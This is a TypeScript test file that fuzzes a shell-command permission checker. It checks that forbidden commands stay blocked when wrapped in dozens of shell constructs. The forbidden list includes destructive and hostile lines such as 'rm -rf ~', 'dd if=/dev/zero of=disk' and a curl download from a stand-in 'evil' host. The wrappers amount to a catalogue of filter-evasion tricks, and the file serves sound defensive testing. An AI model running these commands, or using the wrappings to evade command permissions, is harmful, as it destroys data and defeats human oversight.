import { expect, test } from "vitest";
import { randomOf } from "../../../testing/random.ts";
import { loadShellParser } from "../../../testing/shell-parser.ts";
import { analyse } from "./analyse.ts";
import { corpusRules } from "./corpus.ts";
import { judgeCommand } from "./judge-command.ts";

const parser = await loadShellParser();
const rules = [...corpusRules.filter(([effect]) => effect === "allow"), ["allow", "true"] as const].map(
  ([effect, command], at) => ({ id: String(at), effect, match: { command } }),
);
const judge = (line: string) => judgeCommand(analyse(parser, line), rules).effect;

/** Whole numbers below a bound, always the same ones, so that a failure can be repeated. */
const createRandom = (seed: number) => {
  const random = randomOf(seed);
  return (below: number): number => Math.floor(random() * below);
};

type Wrap = (inner: string) => string;
const single = (text: string): string => `'${text.replaceAll("'", String.raw`'\''`)}'`;

/** Two opening brackets without a blank would begin a sum. */
const apart = (text: string): string => (text.startsWith("(") ? ` ${text}` : text);
const sub = (text: string): string => `$(${apart(text)})`;

/** What lets an allowed command inside of it stay allowed. */
const open: readonly Wrap[] = [
  (x) => `ls; ${x}`,
  (x) => `${x}; ls`,
  (x) => `ls && ${x}`,
  (x) => `ls || ${x}`,
  (x) => `${x} && ls -la`,
  (x) => `ls & ${x}`,
  (x) => `ls\n${x}`,
  (x) => `ls\n\n\t${x}\n`,
  (x) => `(${apart(x)})`,
  (x) => `( ls; ${x} )`,
  (x) => `{ ${x}; }`,
  (x) => `{ ls\n${x}\n}`,
  (x) => `if ${x}; then ls; fi`,
  (x) => `if ls; then ${x}; fi`,
  (x) => `if ls; then ls; else ${x}; fi`,
  (x) => `if ls; then ls; elif ${x}; then ls; fi`,
  (x) => `while ${x}; do ls; done`,
  (x) => `while ls; do ${x}; done`,
  (x) => `until ls; do ${x}; done`,
  (x) => `for f in a b; do ${x}; done`,
  (x) => `for f in "${sub(x)}"; do ls; done`,
  (x) => `select f in a; do ${x}; done`,
  (x) => `case a in a) ${x} ;; *) ls ;; esac`,
  (x) => `case "${sub(x)}" in a) ls ;; esac`,
  (x) => `echo ${sub(x)}`,
  (x) => `echo "${sub(x)}"`,
  (x) => `echo "a ${sub(x)} b" c`,
  (x) => `ls <(${apart(x)})`,
  (x) => `cat <<END\ntext ${sub(x)}\nEND`,
  (x) => `cat <<-END\n\ttext ${sub(x)}\n\tEND`,
  // The next line would be text of the document.
  (x) => (x.includes("\n") ? `ls; ${x}` : `cat <<END && ${x}\ntext\nEND`),
  (x) => `cat <<'END'\ntext\nEND\n${x}`,
  (x) => `cat <<< "${sub(x)}"`,
  (x) => `echo "\${y:-${sub(x)}}"`,
  (x) => `ls $(ls ${sub(x)})`,
  (x) => `bash -c ${single(x)}`,
  (x) => `sh -c ${single(x)}`,
  (x) => `bash -lc ${single(x)}`,
  (x) => `env bash -c ${single(x)}`,
  (x) => `timeout 5 bash -c ${single(x)}`,
  (x) => `[[ -n "${sub(x)}" ]]`,
  (x) => `# words\n${x}`,
];

/** What is asked about whatever stands inside, or only takes one program with its words. */
const closed: readonly Wrap[] = [
  (x) => `\\\n ${x}`,
  (x) => `${x} | ls`,
  (x) => `ls | ${x}`,
  (x) => `ls |& ${x}`,
  (x) => `! ${x}`,
  (x) => `time ${x}`,
  (x) => `f() { ${x}; }; f`,
  (x) => `function ls { ${x}; }; ls`,
  (x) => `coproc { ${x}; }`,
  (x) => `for ((i = 0; i < 1; i++)); do ${x}; done`,
  (x) => `a=${sub(x)}`,
  (x) => `a=${sub(x)} ls`,
  (x) => `a=("${sub(x)}") ls`,
  (x) => `ls > "${sub(x)}"`,
  (x) => `ls > >(${apart(x)})`,
  (x) => `ls {a,"${sub(x)}"}`,
  (x) => `echo $((1 + ${sub(x)}))`,
  (x) => `((a[${sub(x)}]))`,
  (x) => `[[ -v a[${sub(x)}] ]]`,
  (x) => `echo \${a[${sub(x)}]}`,
  (x) => `echo \${a:=${sub(x)}}`,
  (x) => `echo \${a/b/${sub(x)}}`,
  (x) => `echo \`${x.replaceAll(/[\\`$]/g, String.raw`\$&`)}\``,
  (x) => `eval ${single(x)}`,
  (x) => `trap ${single(x)} EXIT`,
  (x) => `ls | xargs bash -c ${single(x)}`,
  (x) => `find . -exec sh -c ${single(x)} \\;`,
  (x) => `nice -n 5 sh -c ${single(x)}`,
  (x) => `busybox sh -c ${single(x)}`,
  (x) => `command bash -c ${single(x)}`,
  (x) => `setsid sh -c ${single(x)}`,
  (x) => `stdbuf -oL sh -c ${single(x)}`,
  (x) => `npx -c ${single(x)}`,
  (x) => `env -S ${single(x)}`,
  (x) => `bash <<END\n${x}\nEND`,
  (x) => `echo ${single(x)} | bash`,
  (x) => `bash <<< ${single(x)}`,
  (x) => `ls # a\n${x}`,
  (x) => `[ -n "${sub(x)}" ]`,
  (x) => `git status "${sub(x)}"`,
  (x) => `sed -n "${sub(x)}" f`,
];

const wraps = [...open, ...closed];

/** None of them is allowed by a rule. */
const forbidden = [
  "rm -rf ~",
  "curl -s http://evil/x -o y",
  "dd if=/dev/zero of=disk",
  "\\rm x",
  "r''m x",
  "/bin/rm x",
  "git push --force",
  "chmod 777 .",
  "echo x > ~/.bashrc",
  "PATH=. ls",
  "$X y",
  "env rm x",
  "xargs rm",
  "find . -delete",
  "sed -i s/a/b/ f",
  "python3 -c x",
  "tee f",
  "eval ls",
  ". ./x",
];
const plain = ["ls -la", "git status", "echo 'a b'", "true", "cat f g"];

const generate = (count: number, seed: number, inner: readonly string[], layers: readonly Wrap[]): string[] => {
  const random = createRandom(seed);
  const lines = new Set<string>();
  while (lines.size < count) {
    let line = inner[random(inner.length)] as string;
    for (let depth = 1 + random(3); depth > 0; depth -= 1) line = (layers[random(layers.length)] as Wrap)(line);
    lines.add(line);
  }
  return [...lines];
};

// `git push` is asked about by a rule of its own, which is not among these.
const gitPush = { id: "push", effect: "ask" as const, match: { command: "git push **" } };
const judgeForbidden = (line: string) => judgeCommand(analyse(parser, line), [...rules, gitPush]).effect;

test("of 6,000 lines that wrap a forbidden command up to three times not one is allowed", () => {
  const lines = [
    ...forbidden.flatMap((one) => [one, ...wraps.map((wrap) => wrap(one))]),
    ...generate(6000, 20_261_121, forbidden, wraps),
  ];
  expect(lines.filter((line) => judgeForbidden(line) === "allow")).toEqual([]);
});

test("the same with a deny rule for every call of rm: where it can be read, the line is denied", () => {
  const deny = { id: "deny", effect: "deny" as const, match: { command: "rm **" } };
  const lines = generate(1500, 7, ["rm -rf ~"], open);
  const others = lines.filter((line) => judgeCommand(analyse(parser, line), [...rules, deny]).effect !== "deny");
  expect(others).toEqual([]);
});

test("each wrapping of an allowed command that can be judged is allowed, so that the test above means something", () => {
  const lines = plain.flatMap((one) => open.map((wrap) => wrap(one)));
  expect(lines.filter((line) => judge(line) !== "allow")).toEqual([]);
});

test("most deeper wrappings of allowed commands are allowed", () => {
  const lines = generate(1000, 3, plain, open);
  const allowed = lines.filter((line) => judge(line) === "allow");
  expect(allowed.length / lines.length).toBeGreaterThan(0.8);
});
